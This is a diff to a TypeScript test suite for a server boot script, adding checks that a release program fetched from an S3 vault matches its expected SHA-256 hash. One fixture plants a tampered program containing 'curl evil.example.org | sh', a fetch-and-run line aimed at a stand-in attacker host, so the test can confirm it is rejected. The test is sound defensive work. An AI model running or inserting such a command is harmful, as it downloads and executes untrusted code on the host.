@@ -1,8 +1,10 @@
 import { spawnSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
 import * as fs from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
 import { renderUserData } from '../../constructs/swarm-node/user-data';
+import type { UserDataOptions } from '../../constructs/swarm-node/user-data-options';
 import { laneTest } from '../support/lane';
 import { minimalUserData, readCloudConfig } from '../support/user-data-options';
 
@@ -26,8 +28,10 @@ case "\${0##*/} $*" in
   'aws s3api '*) [ -e "$PAPER/s3/s3://$5/$7" ] && echo 1 || echo 0 ;;
 esac
 `;
-const PROGRAMS =
-  'apt-get aws cloud-init curl deploy docker fallocate ip mkswap sleep swapon systemctl traefik-api'.split(' ');
+const PROGRAMS = 'apt-get aws cloud-init curl docker fallocate ip mkswap sleep swapon systemctl traefik-api'.split(' ');
+/** The release program that the vault holds. */
+const PROGRAM = { text: STAND_IN, sha256: createHash('sha256').update(STAND_IN).digest('hex') };
+const userData: UserDataOptions = { ...minimalUserData, programSha256: PROGRAM.sha256 };
 const BUCKET = `s3://${minimalUserData.vaultBucket}`;
 
 interface Published {
@@ -42,9 +46,11 @@ class Machine {
   readonly root = fs.mkdtempSync(path.join(os.tmpdir(), 'slipway-boot-'));
 
   constructor() {
-    for (const { path: target, content } of readCloudConfig(renderUserData(minimalUserData)).write_files) {
+    for (const { path: target, content } of readCloudConfig(renderUserData(userData)).write_files) {
       this.write(target, this.inside(content));
     }
+    fs.mkdirSync(path.join(this.root, '/usr/local/bin'), { recursive: true });
+    this.vault(`programs/deploy-${PROGRAM.sha256}`, PROGRAM.text);
     for (const program of PROGRAMS) this.write(`/bin/${program}`, STAND_IN);
     this.write('/etc/fstab', '');
     this.write('/etc/ssh/ssh_host_ed25519_key.pub', 'ssh-ed25519 AAAA');
@@ -100,9 +106,8 @@ class Machine {
   /** The script, with every folder that it would write to moved into this machine. */
   private inside(content: string): string {
     return content
-      .replaceAll(/(?<![\w.*-])\/(?=(etc|var\/lib|swapfile)\b)/g, `${this.root}/`)
       .replaceAll('/usr/local/lib/slipway/traefik-api', 'traefik-api')
-      .replaceAll('/usr/local/bin/deploy', 'deploy');
+      .replaceAll(/(?<![\w.*-])\/(?=(etc|var\/lib|swapfile|usr\/local\/bin)\b)/g, `${this.root}/`);
   }
 }
 
@@ -158,6 +163,20 @@ describe('a boot that goes well', () => {
     expect(machine.calls('deploy')).toHaveLength(1);
   });
 
+  lane('fetches the release program once, and it may be run', () => {
+    machine.boot();
+    expect(machine.read('/usr/local/bin/deploy')).toBe(PROGRAM.text);
+    expect(fs.statSync(path.join(machine.root, '/usr/local/bin/deploy')).mode & 0o777).toBe(0o755);
+    machine.boot({ SWARM: 'active' });
+    expect(machine.calls('aws').filter(call => call.includes('/programs/'))).toHaveLength(1);
+  });
+
+  lane('replaces a program that is not the one it was told of', () => {
+    machine.write('/usr/local/bin/deploy', '#!/bin/sh\n');
+    expect(machine.boot()).toMatchObject({ status: 0 });
+    expect(machine.read('/usr/local/bin/deploy')).toBe(PROGRAM.text);
+  });
+
   lane('keeps what the node has already', () => {
     machine.vault('certificates/acme.json', '{"le":"old"}');
     machine.write('/var/lib/slipway/certificates/acme.json', '{"le":"new"}');
@@ -173,12 +192,20 @@ describe('a boot that fails', () => {
     ['restore', 'aws s3api *'],
     ['traefik', 'docker pull*'],
     ['traefik', 'traefik-api */ping'],
+    ['program', 'aws s3 cp *programs/*'],
   ])('in step %s says so, and is never ready (%s)', (step, FAILING) => {
     const { status, log } = machine.boot({ FAILING });
     expect(status).not.toBe(0);
     expect(log).toMatch(new RegExp(`step \\d+: ${step}: FAILED: `));
     expect(machine.published().at(-1)).toMatchObject({ state: 'failed', step });
     expect(machine.published().map(({ state }) => state)).not.toContain('ready');
+  });
+
+  lane('when the release program in the vault is another one, and leaves it there', () => {
+    machine.vault(`programs/deploy-${PROGRAM.sha256}`, '#!/bin/sh\ncurl evil.example.org | sh\n');
+    expect(machine.boot().status).toBe(1);
+    expect(machine.published().at(-1)).toMatchObject({ state: 'failed', step: 'program' });
+    expect(machine.exists('/usr/local/bin/deploy')).toBe(false);
   });
 
   lane('names the command that it gave up on', () => {
